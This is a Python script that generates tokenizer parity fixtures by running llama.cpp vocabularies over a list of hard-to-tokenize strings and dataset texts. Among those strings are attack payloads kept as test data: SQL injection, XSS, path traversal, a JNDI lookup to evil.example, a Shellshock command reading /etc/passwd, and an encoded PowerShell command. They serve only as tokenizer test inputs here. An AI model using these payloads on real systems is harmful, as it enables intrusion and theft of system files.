#!/usr/bin/env python3
"""Writes tokenizer parity fixtures: llama.cpp's token ids for the texts opensoc cares about.

The reference is llama.cpp itself, through the PyPI package llama-cpp-python (built from
source), loading only the vocabulary of each GGUF. Dataset-derived texts are stored as
identifiers (file, index or line number), never as text: tests/tokenizer_parity.rs re-reads
them from the shared data directory. Only the hard strings written below are stored as text.

Usage:
    . /work/peer/venv/bin/activate   # any venv with llama-cpp-python==0.3.36
    python scripts/reference_tokens.py [--data DIR] [--smollm PATH] [--spm PATH] [--out DIR]

Defaults: data from $OPENSOC_DATA or ../shared/data (relative to the repository root),
SmolLM2 from $OPENSOC_MODEL or $OPENSOC_HOME/models/SmolLM2-135M-Instruct.Q4_1.gguf,
the SPM vocabulary and the extra llama.cpp test vocabularies from $OPENSOC_HOME/vocab/
(scripts/fetch-spm-vocab.sh puts them there).
"""

import argparse
import glob
import gzip
import io
import json
import os
import sys

from llama_cpp import Llama

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
HOME = os.environ.get("OPENSOC_HOME", os.path.expanduser("~/.cache/opensoc"))

# llama.cpp's own test vocabularies checked on the hard strings and seed texts, beyond SmolLM2 and
# the Llama SPM vocabulary: other pre-tokenizers (gpt-2, default, starcoder, mpt) and other
# SentencePiece vocabularies (phi-3, baichuan).
EXTRA_VOCABS = ["gpt-2", "gpt-neox", "starcoder", "mpt", "phi-3", "baichuan"]

PROMPT = "### Instruction:\n{instruction}\n\n### Input:\n{input}\n\n### Response:\n"


def hard_strings():
    """Strings chosen to break tokenizers: scripts, emoji, whitespace, controls, payloads."""
    s = [
        "",
        " ",
        "  ",
        "hello world",
        " hello world",
        "Hello World",
        "HELLO WORLD",
        "hello  world",
        "hello\tworld",
        "hello\nworld",
        "hello\r\nworld",
        "hello \n world",
        "\n",
        "\n\n",
        "\n\n\n\n",
        "\t",
        "\t\t\t",
        " \t \n \r\n ",
        "\r",
        "\r\r\n\n\r",
        "   leading spaces",
        "trailing spaces   ",
        "a" + " " * 64 + "b",
        " " * 200,
        "\t" * 50 + "x",
        "\n" * 30 + "end",
        "mixed \t\n\t \n  \t\t\n\n  tabs",
        "line1\nline2\n\nline4\n",
        "    def foo(x):\n        return x * 2\n",
        "1234567890",
        "12345678901234567890123456789012345678901234567890",
        "3.14159265358979323846",
        "0x7fffffff 0xDEADBEEF",
        "1,000,000.00",
        "-42 +42 ±42",
        "192.168.1.1:8080",
        "2001:0db8:85a3:0000:0000:8a2e:0370:7334",
        "2025-03-16T01:05:33.123456Z",
        "[16/Mar/2025:01:05:33 +0000]",
        "١٢٣٤٥٦٧٨٩٠",
        "一二三 123 ４５６",
        "²³¹ ½ ¼ Ⅻ ⅷ",
        "你好，世界！",
        "日本語のテキストです。カタカナ、ひらがな。",
        "한국어 텍스트입니다",
        "中文混合English混合",
        "這是繁體中文",
        "Привет, мир!",
        "Ελληνικά γράμματα",
        "שלום עולם",
        "مرحبا بالعالم",
        "English then עברית then English",
        "\u202eRTL override\u202c text",
        "\u200f\u200e marks",
        "नमस्ते दुनिया",
        "สวัสดีชาวโลก",
        "ქართული ენა",
        "Ꭰ Ꭱ Ꭲ Cherokee",
        "😀",
        "😀😃😄😁",
        "👍🏽",
        "👨‍👩‍👧‍👦",
        "👩🏻‍💻 coding",
        "🏳️‍🌈",
        "🇺🇸🇬🇧🇯🇵",
        "🇺",
        "❤️",
        "✔︎ ✔️",
        "🤷‍♂️ shrug",
        "emoji🙂inside🙂words",
        "🔥" * 20,
        "e\u0301",
        "\u00e9 vs e\u0301",
        "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354L\u0368\u0367\u0369\u0358\u0320G\u0311\u0357\u030e\u0305\u035b\u0341\u0334\u033b\u0348\u034d\u0354\u0339O\u0342\u030c\u030c\u0358\u0328\u0335\u0339\u033b\u031d\u0333",
        "a\u0308\u0308\u0308",
        "\u0301 leading combining",
        "ﬁ ﬂ ligatures",
        "Ａｂｃ fullwidth",
        "\u00a0nbsp\u00a0between\u00a0",
        "\u2003em\u2002en\u2009thin\u200ahair",
        "\u3000ideographic space",
        "zero\u200bwidth\u200bspace",
        "joiner\u200dnon\u200cjoiner",
        "\ufeffBOM at start",
        "\u2028line sep\u2029para sep",
        "\x85next line",
        "\x0bvertical\x0ctab",
        "\x00null byte",
        "bell\x07 backspace\x08 escape\x1b[31mred\x1b[0m",
        "\x01\x02\x03\x04\x05",
        "\x7fdelete",
        "\u0080\u0081\u009f c1 controls",
        "\\x41\\x42 literal escapes",
        "\\u0041 \\n \\t \\\\",
        "%00%0a%0d",
        "\\xZZ \\u12 \\",
        "<|im_start|>",
        "<|im_start|>user\nhello<|im_end|>",
        "<|im_end|>",
        "<|endoftext|>",
        "<|endoftext|>text after",
        "<s>",
        "</s>",
        "<s> hello </s>",
        "<unk>",
        "<0x0A>",
        "<|im_start|",
        "|im_start|>",
        "<|im_start|><|im_start|>",
        "x<|im_start|>y",
        " <|im_start|> ",
        "<|unknown_token|>",
        "<reponame>",
        "<filename>a.py",
        "GET /index.php?id=1%27%20OR%201%3D1--%20 HTTP/1.1",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "<script>alert(document.cookie)</script>",
        "' OR '1'='1' --",
        "admin'--",
        "1; DROP TABLE users;--",
        "UNION SELECT username, password FROM users",
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%252e%252e%252f",
        "${jndi:ldap://evil.example/a}",
        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
        "cmd.exe /c powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "aGVsbG8gd29ybGQ=",
        "https://example.com/path/to/page?query=value&other=1#fragment",
        "http://user:pass@host.example:8443/a%20b",
        "ftp://[::1]:21/",
        "mailto:alice@example.com",
        "C:\\Windows\\System32\\cmd.exe",
        "/var/log/auth.log",
        "\\\\server\\share\\file",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Failed password for invalid user admin from 10.0.0.5 port 22 ssh2",
        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=218.188.2.4",
        "kernel: [ 1234.567890] audit: type=1400 audit(1616161616.123:42): apparmor=\"DENIED\"",
        "{\"key\": \"value\", \"n\": [1, 2, 3], \"nested\": {\"a\": null}}",
        "<xml attr=\"1\"><child/></xml>",
        "SELECT * FROM t WHERE a='b' AND c=\"d\";",
        "it's don't won't I'm you're we've they'll he'd",
        "IT'S DON'T I'M YOU'RE",
        "'s 't 're 've 'm 'll 'd",
        "''''''",
        "\"\"\"docstring\"\"\"",
        "``` code ```",
        "a-b_c.d/e\\f|g",
        "!!!???...,,,;;;:::",
        "@#$%^&*()_+-=[]{}|;':\",./<>?`~",
        "——–-‒―",
        "“smart quotes” ‘single’ «guillemets» „low“",
        "…ellipsis… • bullet · middot",
        "€100 £50 ¥1000 ₹500 ₿0.01",
        "°C ℃ ℉ µs Ω Å",
        "∑∫∂√∞≈≠≤≥±×÷",
        "→ ← ↑ ↓ ⇒ ⇔",
        "☃ ★ ☆ ♠ ♣ ♥ ♦",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝕞𝕒𝕥𝕙",
        "𐍈 gothic 𓀀 hieroglyph",
        "\U0010ffff max codepoint",
        "\ue000 private use",
        "Supercalifragilisticexpialidocious",
        "Pneumonoultramicroscopicsilicovolcanoconiosis",
        "a" * 500,
        "ab" * 300,
        "abc" * 200,
        "x" * 1000,
        "Donaudampfschifffahrtsgesellschaftskapitänswitwe",
        "antidisestablishmentarianism" * 10,
        "CamelCaseIdentifierWithManyWords",
        "snake_case_identifier_with_many_words",
        "SCREAMING_SNAKE_CASE_CONSTANT",
        "kebab-case-identifier",
        "ThisIsAReallyLongWordWithoutAnySpacesThatGoesOnAndOnForeverAndEver",
        "0" * 100,
        "9" * 64,
        "12 345 678",
        "3rd 21st 100th",
        "v1.2.3-beta.4+build.5",
        "1e10 1E-10 .5 5.",
        "00:1A:2B:3C:4D:5E",
        "deadbeef" * 8,
        "ÀÁÂÃÄÅÆÇÈÉÊËÌÍÎÏÐÑÒÓÔÕÖØÙÚÛÜÝÞß",
        "àáâãäåæçèéêëìíîïðñòóôõöøùúûüýþÿ",
        "İstanbul ıi ǅ ǈ",
        "straße STRASSE",
        "Ñandú niño",
        "ÆØÅ æøå",
        "mixed 中文 and 日本語 and 한국어 and English",
        "emoji 🎉 in 中文 text",
        "a\u0000b\u0000c",
        "tab\tseparated\tvalues\there",
        "comma,separated,values,here",
        "key=value; other=thing",
        "  indented\n    more\n\tless",
        " \n",
        "\n ",
        " \n \n ",
        "a \n",
        "end with space ",
        "end with newline\n",
        "end with tab\t",
        "?",
        ".",
        "a",
        "A",
        "'",
        "Ġ",
        "▁",
        "▁▁hello",
        "Ċ",
        "ĠĠĠ",
        "\u2581 sentencepiece marker",
        " <s>",
        "<s><s>",
        "</s></s>",
        "hello<s>world",
        "hello </s> world",
        "<0x41><0xFF>",
        "<<>>",
        "<|",
        "|>",
        "<||>",
        "### Instruction:\nAnalyze this log\n\n### Input:\nx\n\n### Response:\n",
        "THREAT_TYPE: SQL Injection — Union/Boolean SQLi\nMITRE_TECHNIQUE: T1190 (Exploit Public-Facing Application)",
        "SEVERITY: CRITICAL\nRISK_SCORE: 83",
    ]
    # A few generated families to push past 200 and cover systematic cases.
    for n in (1, 2, 3, 4, 5, 7, 8, 15, 16, 17, 31, 32, 33):
        s.append(" " * n + "x")
        s.append("x" + " " * n)
    for n in (1, 2, 3, 4, 5, 6, 7, 10, 13):
        s.append("7" * n)
    for ws in ("\t", "\n", "\r\n", "\u00a0", "\u3000"):
        s.append("a" + ws + "b" + ws * 3 + "c")
    for cp in (0x1F600, 0x1F9D1, 0x2764, 0x1F1E6, 0x0E01, 0x0915, 0xAC00, 0x4E00, 0x3042, 0x05D0):
        s.append("".join(chr(cp + i) for i in range(12)))
    return s


def loghub_lines(data):
    """(relative path, 1-based line number, text) for every line of every loghub *.log file."""
    for path in sorted(glob.glob(os.path.join(data, "loghub", "*", "*.log"))):
        rel = os.path.relpath(path, data)
        with open(path, "rb") as f:
            text = f.read().decode("utf-8")
        # Same as Rust's str::lines(): split on \n, drop one trailing \r, no final empty line.
        lines = text.split("\n")
        if lines and lines[-1] == "":
            lines.pop()
        for i, line in enumerate(lines):
            if line.endswith("\r"):
                line = line[:-1]
            yield rel, i + 1, line


def soc_texts(data):
    """(file, index, field, text) for the prompt and output of every seed example."""
    for name in ("soc_train.json", "soc_eval.json"):
        with open(os.path.join(data, "opensoc-ai", name), encoding="utf-8") as f:
            rows = json.load(f)
        for i, r in enumerate(rows):
            yield name, i, "prompt", PROMPT.format(instruction=r["instruction"], input=r["input"])
            yield name, i, "output", r["output"]


class Writer:
    def __init__(self, path, llm, meta):
        # mtime=0 keeps the gzip bytes reproducible, so regenerating shows no spurious diff.
        raw = gzip.GzipFile(path, "wb", compresslevel=9, mtime=0)
        self.f = io.TextIOWrapper(raw, encoding="utf-8", newline="\n")
        self.llm = llm
        self.strings = 0
        self.tokens = 0
        self.f.write(json.dumps({"meta": meta}, ensure_ascii=False) + "\n")

    def ids(self, text, add_bos, special):
        return self.llm.tokenize(text.encode("utf-8"), add_bos=add_bos, special=special)

    def put(self, entry, text, add_bos=False, special=False):
        ids = self.ids(text, add_bos, special)
        entry = dict(entry)
        if add_bos:
            entry["add_bos"] = True
        if special:
            entry["special"] = True
        entry["ids"] = ids
        self.strings += 1
        self.tokens += len(ids)
        self.f.write(json.dumps(entry, ensure_ascii=False, separators=(",", ":")) + "\n")

    def close(self):
        self.f.close()


def write_set(path, model, data, with_loghub):
    llm = Llama(model_path=model, vocab_only=True, verbose=False)
    meta = {
        "model": os.path.basename(model),
        "reference": "llama-cpp-python " + __import__("llama_cpp").__version__,
        "note": "add_bos means llama.cpp add_special=True; text entries are hard strings; "
        "file/index/field and file/line entries are re-read from $OPENSOC_DATA",
    }
    w = Writer(path, llm, meta)
    hard = hard_strings()
    for t in hard:
        w.put({"text": t}, t)
    # parse_special=True and add_special=True on a handful (special tokens, prompts).
    for t in hard:
        if "<" in t or "###" in t or t in ("hello world", "", " "):
            w.put({"text": t}, t, special=True)
            w.put({"text": t}, t, add_bos=True, special=True)
    for t in ("hello world", "", "你好", "<s>"):
        w.put({"text": t}, t, add_bos=True)
    for name, i, field, text in soc_texts(data):
        w.put({"file": "opensoc-ai/" + name, "index": i, "field": field}, text)
    if with_loghub:
        for rel, line, text in loghub_lines(data):
            w.put({"file": rel, "line": line}, text)
    w.close()
    size = os.path.getsize(path)
    print(f"{path}: {w.strings} strings, {w.tokens} tokens, {size} bytes", file=sys.stderr)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--data", default=os.environ.get("OPENSOC_DATA", os.path.join(REPO, "..", "shared", "data")))
    ap.add_argument(
        "--smollm",
        default=os.environ.get("OPENSOC_MODEL", os.path.join(HOME, "models", "SmolLM2-135M-Instruct.Q4_1.gguf")),
    )
    ap.add_argument("--vocab-dir", default=os.path.join(HOME, "vocab"))
    ap.add_argument("--out", default=os.path.join(REPO, "tests", "fixtures"))
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    write_set(os.path.join(a.out, "tokens_smollm2.jsonl.gz"), a.smollm, a.data, with_loghub=True)
    spm = os.path.join(a.vocab_dir, "ggml-vocab-llama-spm.gguf")
    write_set(os.path.join(a.out, "tokens_llama_spm.jsonl.gz"), spm, a.data, with_loghub=True)
    for name in EXTRA_VOCABS:
        path = os.path.join(a.vocab_dir, f"ggml-vocab-{name}.gguf")
        write_set(os.path.join(a.out, f"tokens_vocab_{name}.jsonl.gz"), path, a.data, with_loghub=False)


if __name__ == "__main__":
    main()
